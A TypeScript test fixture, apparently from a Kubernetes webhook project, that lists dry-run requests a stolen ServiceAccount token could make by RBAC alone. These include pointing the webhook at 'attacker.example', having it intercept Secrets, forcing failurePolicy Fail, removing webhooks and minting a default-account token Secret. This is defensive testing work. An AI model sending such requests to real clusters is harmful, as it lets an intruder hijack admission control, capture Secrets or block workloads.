import { CA_SECRET, WEBHOOK_CONFIGURATION } from '../../../src/kube/own-objects.js';
import { SECRET_TYPE } from '../../../src/tls/authority/secret.js';
import type { RawCall } from './token-client.js';
import { WEBHOOK } from './webhook.js';

const MUTATING = `/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/${WEBHOOK_CONFIGURATION}`;
const VALIDATING = MUTATING.replace('mutating', 'validating');
const SECRETS = `/api/v1/namespaces/${WEBHOOK}/secrets`;
/** Nothing is stored. */
export const DRY = '?dryRun=All';

/** A change that RBAC allows to the webhook's ServiceAccount and that the webhook never makes. */
export interface Change extends RawCall {
  readonly name: string;
}

const patch = (name: string, path: string, ...operations: readonly object[]): Change => ({
  ...{ name, method: 'PATCH', path: `${path}${DRY}`, contentType: 'application/json-patch+json' },
  body: operations,
});

/** Sets one field of a webhook configuration, or of another object. */
export const put = (name: string, field: string, value: unknown, path = MUTATING): Change =>
  patch(name, path, { op: 'add', path: field, value });

export const ELSEWHERE = { url: 'https://attacker.example/mutate' };
const ANOTHER = {
  ...{ name: 'pods.attacker.example', clientConfig: ELSEWHERE, admissionReviewVersions: ['v1'] },
  ...{ sideEffects: 'None', rules: [] },
};

/** What a stolen token could do to the configurations by RBAC alone. */
export const TO_REGISTRATIONS: readonly Change[] = [
  put('call a URL', '/webhooks/0/clientConfig', ELSEWHERE),
  put('call another Service', '/webhooks/0/clientConfig/service/name', 'attacker'),
  put('call a Service of another namespace', '/webhooks/0/clientConfig/service/namespace', 'attacker'),
  put('call another path', '/webhooks/0/clientConfig/service/path', '/other'),
  put('call another port', '/webhooks/0/clientConfig/service/port', 444),
  patch('call no path', MUTATING, { op: 'remove', path: '/webhooks/0/clientConfig/service/path' }),
  put('take in every namespace', '/webhooks/0/namespaceSelector', {}),
  put('leave pods out', '/webhooks/0/objectSelector', { matchLabels: { is: 'never' } }),
  put('ask about Secrets', '/webhooks/0/rules/0/resources', ['secrets']),
  put('ask about updates', '/webhooks/0/rules/0/operations', ['CREATE', 'UPDATE']),
  put('hold up pods', '/webhooks/0/failurePolicy', 'Fail'),
  put('hold up pods for long', '/webhooks/0/timeoutSeconds', 30),
  put('be called once', '/webhooks/0/reinvocationPolicy', 'Never'),
  put('match less', '/webhooks/0/matchPolicy', 'Exact'),
  put('have side effects', '/webhooks/0/sideEffects', 'None'),
  put('speak another version', '/webhooks/0/admissionReviewVersions', ['v1', 'v1beta1']),
  put('have another condition', '/webhooks/0/matchConditions/-', { name: 'never', expression: 'false' }),
  patch('have no condition', MUTATING, { op: 'remove', path: '/webhooks/0/matchConditions' }),
  put('have another webhook', '/webhooks/-', ANOTHER),
  put('rename the webhook', '/webhooks/0/name', 'other.tracing.dokaseca.io'),
  patch('remove the webhook', MUTATING, { op: 'remove', path: '/webhooks/0' }),
  patch('remove all webhooks', MUTATING, { op: 'remove', path: '/webhooks' }),
  put('replace all webhooks', '/webhooks', [ANOTHER]),
  patch('remove one of two webhooks', VALIDATING, { op: 'remove', path: '/webhooks/1' }),
  put('judge by another server', '/webhooks/1/clientConfig', ELSEWHERE, VALIDATING),
  put('hold up platforms', '/webhooks/1/failurePolicy', 'Fail', VALIDATING),
  put('hand caBundle to an injector', '/metadata/annotations/cert-manager.io~1inject-ca-from', 'a/b'),
  put('have a label', '/metadata/labels/owner', 'attacker'),
  put('stay when deleted', '/metadata/finalizers', ['attacker.example/stay']),
  put('be removed with an owner', '/metadata/ownerReferences', [
    { apiVersion: 'v1', kind: 'Node', name: 'none', uid: '00000000-0000-0000-0000-000000000000' },
  ]),
  {
    ...{
      name: 'hold up pods, by apply',
      method: 'PATCH',
      path: `${MUTATING}${DRY}&fieldManager=a&force=true`,
    },
    contentType: 'application/apply-patch+yaml',
    body: {
      ...{ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration' },
      metadata: { name: WEBHOOK_CONFIGURATION },
      webhooks: [{ name: 'pods.tracing.dokaseca.io', failurePolicy: 'Fail' }],
    },
  },
];

/** A Secret of a name and a type. */
export const secret = (name: string, type: string, more: object = {}): object => ({
  ...{ apiVersion: 'v1', kind: 'Secret', type },
  ...{ metadata: { name }, ...more },
});

const createSecret = (name: string, body: object): Change => ({
  name,
  method: 'POST',
  path: `${SECRETS}${DRY}`,
  body,
});

const TOKEN_TYPE = 'kubernetes.io/service-account-token';

/** What a stolen token could create by RBAC alone. */
export const TO_SECRETS: readonly Change[] = [
  createSecret('another Secret', secret('another', SECRET_TYPE)),
  createSecret('a Secret of another type', secret(CA_SECRET, 'Opaque')),
  createSecret('a token of another account', {
    ...secret('token', TOKEN_TYPE),
    metadata: { name: 'token', annotations: { 'kubernetes.io/service-account.name': 'default' } },
  }),
  createSecret('a Secret with a generated name', {
    ...secret('', SECRET_TYPE),
    metadata: { generateName: CA_SECRET },
  }),
  createSecret('a Secret that cannot be changed', secret(CA_SECRET, SECRET_TYPE, { immutable: true })),
];
